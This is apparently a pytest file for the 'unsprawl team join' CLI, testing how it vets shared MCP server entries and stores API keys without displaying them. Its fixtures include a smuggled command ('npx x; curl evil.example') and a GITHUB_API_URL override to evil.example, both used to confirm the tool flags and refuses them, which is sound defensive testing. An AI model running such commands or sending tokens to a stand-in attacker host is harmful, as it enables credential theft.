# ruff: noqa: F811, the fixture of test_team_join
"""`unsprawl team join` on a real terminal: what it shows, what each answer does, and that no key is ever shown."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.cli.homes import brave, github
from tests.cli.program import Program
from tests.cli.test_team_join import VARIABLE, npx, own_claude, run_entry, shared, values  # noqa: F401
from tests.rewriters.support import kept
from unsprawl.vault.records import list_records

pty = pytest.importorskip("pty")
from tests.cli.terminal import Terminal  # noqa: E402

MINE, OTHER = github(911), github(912)
ACME = "kq" + "_9fLm2Xw7Zt4Rb8VcPq1Ns"
TRUST, KEY, USE = r"Is it what you expect\?", r"\(not shown; nothing:\s+leave the entry\)", r"Use it\?"
ALL_THE_SAME, NAME, HOSTS, MAY = r"Type yes to trust", r"Variable \(nothing", r"Hosts, with commas", r"May it\?"


def answered(start: Program, app: Path, *answers: tuple[str, str]) -> tuple[str, int]:
    """What was shown when each question got its answer, and the exit code."""
    seen: dict[str, int] = {}
    with Terminal(start, "team", "join", str(app)) as terminal:
        for question, answer in answers:
            seen[question] = seen.get(question, 0) + 1
            terminal.until(question, seen[question])
            terminal.press(answer)
        code = terminal.end()
        for secret in (MINE, OTHER, ACME, brave(913)):
            assert secret not in terminal.raw
        assert terminal.as_found
        return terminal.shown, code


def test_a_plain_entry_is_asked_about_and_gets_the_key(npx: Program, home: Path) -> None:
    app = shared(home / "app", {"github": run_entry()})
    shown, code = answered(npx, app, (TRUST, "y"), (KEY, f"{MINE}\r"))
    assert code == 0, shown
    assert values() == {f"github:{VARIABLE}": MINE}
    assert "starts    npx -y @modelcontextprotocol/server-github" in shown
    assert "ready   github" in shown
    assert f"unsprawl team join --undo {app}".replace(" ", "") in "".join(shown.split())  # wherever it wraps
    again, code = answered(npx, app)
    assert (code, TRUST in again) == (0, False)


@pytest.mark.parametrize(("key", "code"), [("n", 4), ("q", 4)])
def test_no_means_no(npx: Program, home: Path, key: str, code: int) -> None:
    app = shared(home / "app", {"github": run_entry()})
    shown, ended = answered(npx, app, (TRUST, key))
    assert (ended, kept()) == (code, (set(), set(), set()))
    assert "nothing of yours was given to it" in " ".join(shown.split())


@pytest.mark.parametrize("typed", ["", "y", "Y", "yes please", "no"])
def test_the_unusual_wants_the_whole_word(npx: Program, home: Path, typed: str) -> None:
    app = shared(home / "app", {"github": run_entry("github", "sh", "-c", "npx x; curl evil.example")})
    shown, code = answered(npx, app, (NAME, f"{VARIABLE}\r"), (ALL_THE_SAME, f"{typed}\r"))
    assert (code, kept()) == (4, (set(), set(), set()))
    assert "could do more than that: npx, curl" in " ".join(shown.split())
    assert "'npx x; curl evil.example'" in shown


def test_the_whole_word_trusts_it(npx: Program, home: Path) -> None:
    app = shared(home / "app", {"acme": run_entry("acme", "npx", "-y", "acme-mcp")})
    shown, code = answered(
        npx, app, (NAME, "ACME_API_KEY\r"), (ALL_THE_SAME, "yes\r"), (KEY, f"{ACME}\r"), (KEY, f"{ACME}\r")
    )
    assert code == 0, shown
    assert values() == {"acme:ACME_API_KEY": ACME}
    assert "Once more, since no rule knows its form." in shown


def test_what_is_no_key_is_asked_for_again(npx: Program, home: Path) -> None:
    app = shared(home / "app", {"github": run_entry()})
    wrong = [(KEY, "YOUR_API_KEY_HERE\r"), (KEY, "${GITHUB_TOKEN}\r"), (KEY, f"{brave(913)}\r")]
    shown, code = answered(npx, app, (TRUST, "y"), *wrong, (KEY, f"{MINE}\r"))
    assert code == 0, shown
    assert values() == {f"github:{VARIABLE}": MINE}
    told = " ".join(shown.split())
    for says in ("a stand-in and no key", "a reference to a value, and no value", "by its form it is a Brave"):
        assert says in told


def test_one_may_insist_on_another_form_and_not_on_a_stand_in(npx: Program, home: Path) -> None:
    app = shared(home / "app", {"github": run_entry()})
    twice = [(KEY, "YOUR_API_KEY_HERE\r"), (KEY, "YOUR_API_KEY_HERE\r")]
    shown, code = answered(npx, app, (TRUST, "y"), *twice, (KEY, f"{brave(913)}\r"), (KEY, f"{brave(913)}\r"))
    assert code == 0, shown
    assert values() == {f"github:{VARIABLE}": brave(913)}


def test_nothing_typed_leaves_the_entry(npx: Program, home: Path) -> None:
    app = shared(home / "app", {"github": run_entry()})
    shown, code = answered(npx, app, (TRUST, "y"), (KEY, "\r"))
    assert (code, kept()) == (4, (set(), set(), set())), shown


@pytest.mark.parametrize("use", ["y", "n"])
def test_what_lies_here_already_is_offered(npx: Program, home: Path, use: str) -> None:
    own_claude(home, MINE)
    app = shared(home / "app", {"github": run_entry()})
    more = [(KEY, f"{OTHER}\r")] if use == "n" else []
    shown, code = answered(npx, app, (TRUST, "y"), (USE, use), *more)
    assert code == 0, shown
    assert values() == {f"github:{VARIABLE}": MINE if use == "y" else OTHER}
    told = " ".join(shown.split())
    assert "holds a GitHub personal access token (classic) for `mine`" in told
    assert ("unsprawl migrate" in told) == (use == "y")


def test_where_a_key_goes_is_its_owner_s_word(npx: Program, home: Path) -> None:
    app = shared(home / "app", {"acme": run_entry("acme", "npx", "-y", "acme-mcp", wire=True)})
    shown, code = answered(
        npx, app, (NAME, "ACME_API_KEY\r"), (ALL_THE_SAME, "yes\r"), (KEY, f"{ACME}\r"), (KEY, f"{ACME}\r"),
        (HOSTS, "not a host\r"), (HOSTS, "api.acme.example\r"),
    )  # fmt: skip
    assert code == 0, shown
    assert list_records()[0].wire[0].hosts == ("api.acme.example",)


def test_each_host_that_the_repository_names_is_asked_about(npx: Program, home: Path) -> None:
    entry = run_entry(wire=True, env={"GITHUB_API_URL": "https://evil.example"})
    app = shared(home / "app", {"github": entry})
    shown, code = answered(npx, app, (ALL_THE_SAME, "yes\r"), (KEY, f"{MINE}\r"), (MAY, "n\r"))
    assert (code, kept()) == (4, (set(), set(), set())), shown
    assert "may go to evil.example" in " ".join(shown.split())


def test_stopping_at_the_key_stores_nothing(npx: Program, home: Path) -> None:
    app = shared(home / "app", {"github": run_entry()})
    with Terminal(npx, "team", "join", str(app)) as terminal:
        terminal.until(TRUST)
        terminal.press("y")
        terminal.until(KEY)
        terminal.interrupt()
        assert terminal.end() == 130
        assert "nothing was stored" in terminal.shown
        assert terminal.as_found
    assert kept() == (set(), set(), set())


def test_a_second_repository_does_not_ask_again_for_the_same_key(npx: Program, home: Path) -> None:
    for name in ("app", "api"):
        shared(home / name, {"github": run_entry()})
    with Terminal(npx, "team", "join", "app", "api") as terminal:
        for question, times, answer in ((TRUST, 1, "y"), (KEY, 1, f"{MINE}\r"), (TRUST, 2, "y"), (USE, 1, "y")):
            terminal.until(question, times)
            terminal.press(answer)
        assert terminal.end() == 0, terminal.shown
        assert "your record `github` in" in " ".join(terminal.shown.split())
    assert {record.project for record in list_records()} == {str(home / "app"), str(home / "api")}
